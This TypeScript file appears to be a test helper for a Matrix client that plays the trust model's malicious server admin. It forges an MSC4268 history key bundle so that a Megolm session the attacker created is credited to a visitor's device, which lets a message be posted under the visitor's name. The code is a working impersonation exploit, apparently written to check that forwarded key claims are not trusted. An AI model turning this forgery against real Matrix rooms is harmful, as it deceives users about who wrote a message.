// The attacker of DESIGN.md's trust model with a member in the room (force-joined by
// the server admin, a real cross-signed Matrix client): it hands an invitee a history
// key bundle (MSC4268) whose room key claims to be the visitor's, and the admin posts
// a message in that key under the visitor's account. Keys forwarded by someone other
// than their sender prove nothing about who wrote with them: only the forwarder vouches.
import { Attachment, RoomId } from "@matrix-org/matrix-sdk-crypto-wasm";
import { EventType, MatrixEvent, MsgType, type MatrixClient } from "matrix-js-sdk";

type Olm = { buildRoomKeyBundle(room: RoomId): Promise<unknown> };
type Backend = { olmMachine: Olm; encryptEvent(ev: MatrixEvent, room: unknown): Promise<void> };
type BundleKey = { session_id: string; sender_key: string; sender_claimed_keys: Record<string, string> };

/**
 * Makes a Megolm session of `attacker` (its keys go to the room's members now, as
 * for any message), encrypts `text` in it, and returns that ciphertext content with
 * the visitor's device named as the sender (for the admin to post as the visitor).
 * From then on, `attacker.invite()` sends a bundle whose copy of that session
 * claims the visitor's device keys.
 */
export async function forgeVisitorSession(attacker: MatrixClient, roomId: string, visitorUserId: string, text: string): Promise<Record<string, unknown>> {
  const crypto = attacker.getCrypto()!;
  const backend = crypto as unknown as Backend;
  const room = attacker.getRoom(roomId);
  if (!room) throw new Error(`${attacker.getUserId()} is not in ${roomId}`);
  const devices = (await crypto.getUserDeviceInfo([visitorUserId], true)).get(visitorUserId);
  const device = [...(devices?.values() ?? [])][0];
  const curve = device?.getIdentityKey();
  const ed = device?.getFingerprint();
  if (!device || !curve || !ed) throw new Error(`no device keys of ${visitorUserId}`);

  const ev = new MatrixEvent({
    type: EventType.RoomMessage,
    content: { msgtype: MsgType.Text, body: text },
    room_id: roomId,
    sender: attacker.getSafeUserId(),
    event_id: `$forged-${Date.now()}`,
  });
  await backend.encryptEvent(ev, room);
  const wire = ev.getWireContent();
  const sessionId = String(wire.session_id);

  // The bundle the attacker's client will send on invite: the real one, with that session's
  // claimed sender swapped for the visitor's device (the claims are not signed by anyone).
  const olm = backend.olmMachine;
  const build = olm.buildRoomKeyBundle.bind(olm);
  olm.buildRoomKeyBundle = async (r: RoomId) => {
    const real = (await build(r)) as Parameters<typeof Attachment.decrypt>[0] | undefined;
    if (!real) throw new Error("the attacker has no room key to bundle");
    const bundle = JSON.parse(new TextDecoder().decode(Attachment.decrypt(real))) as { room_keys: BundleKey[] };
    bundle.room_keys = bundle.room_keys
      .filter((k) => k.session_id === sessionId)
      .map((k) => ({ ...k, sender_key: curve, sender_claimed_keys: { ed25519: ed } }));
    if (!bundle.room_keys.length) throw new Error("the forged session is not in the attacker's bundle");
    return Attachment.encrypt(new TextEncoder().encode(JSON.stringify(bundle)));
  };
  return { ...wire, sender_key: curve, device_id: device.deviceId };
}
